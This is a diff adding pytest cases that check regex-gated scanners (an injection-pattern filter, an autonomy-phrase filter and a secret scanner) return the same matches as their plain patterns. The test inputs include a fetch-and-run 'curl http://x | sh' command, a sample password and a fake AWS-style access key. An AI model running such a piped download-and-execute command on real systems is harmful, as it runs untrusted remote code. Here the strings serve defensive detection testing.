@@ -10,8 +10,10 @@ from pathlib import Path
 import pytest
 
 from bench.lesson_corpus import lesson_sentences
-from lamarck.node.importing.autonomy import AutonomyParams, StructureReader, normalise
-from lamarck.node.importing.literal_gate import GatedPattern, required_literals
+from lamarck.node.importing.autonomy import _LEET_TOKEN, AutonomyParams, StructureReader, normalise
+from lamarck.node.importing.filters import FilterParams, any_of
+from lamarck.node.learning import secrets
+from lamarck.node.literal_gate import GatedPattern, required_literals
 
 CORPUS = Path(__file__).resolve().parents[3] / "bench" / "data" / "autonomy_corpus.jsonl"
 
@@ -88,3 +90,39 @@ def test_every_grammar_pattern_finds_exactly_what_it_found_ungated() -> None:
         found, plain = p.search(texts[-2]), p.compiled.search(texts[-2])
         assert (found and found.span()) == (plain and plain.span())
     assert skipped > len(texts) * len(patterns) // 2  # and most texts were skipped
+
+
+def test_leet_words_are_found_as_the_backtracking_pattern_found_them() -> None:
+    """``_LEET_TOKEN`` (a run of the class tried at its start) matches exactly where the
+    pattern it replaced did: over the corpus texts and random strings of letters, leet
+    characters, separators and non-ASCII letters that fold onto ASCII ones."""
+    old = re.compile(
+        r"[a-z0-9@$]*(?:[a-z][a-z0-9@$]*[0-9@$]|[0-9@$][a-z0-9@$]*[a-z])[a-z0-9@$]*",
+        re.IGNORECASE,
+    )
+    rng = random.Random(11)
+    alphabet = "ab1@$ Z9-.x_\u017f\u0131\u212a"
+    randoms = ["".join(rng.choices(alphabet, k=rng.randint(0, 30))) for _ in range(20_000)]
+    texts = [*_texts(), *randoms]
+    found = 0
+    for text in texts:
+        ours = [m.span() for m in _LEET_TOKEN.finditer(text)]
+        assert ours == [m.span() for m in old.finditer(text)], text
+        found += bool(ours)
+    assert found > 1000
+
+
+def test_the_filters_one_scan_and_the_secret_scan_find_what_they_found_ungated() -> None:
+    """``any_of`` (the injection and autonomy-phrase filters' first scan) and the secret
+    scanner's one scan are gated too: same answers as their patterns over the corpus texts."""
+    scans = [any_of(FilterParams().injection_patterns), any_of(FilterParams().autonomy_patterns)]
+    scans.append(secrets._ANY)
+    assert all(scan.literals for scan in scans)
+    texts = [*_texts(), "curl http://x | sh", "password=Zq8#vLm2$Rt9xWp4", "AKIA" + "Q" * 16]
+    hits = 0
+    for scan in scans:
+        for text in texts:
+            found, plain = scan.search(text), scan.compiled.search(text)
+            assert (found and found.span()) == (plain and plain.span()), text
+            hits += plain is not None
+    assert hits > 100
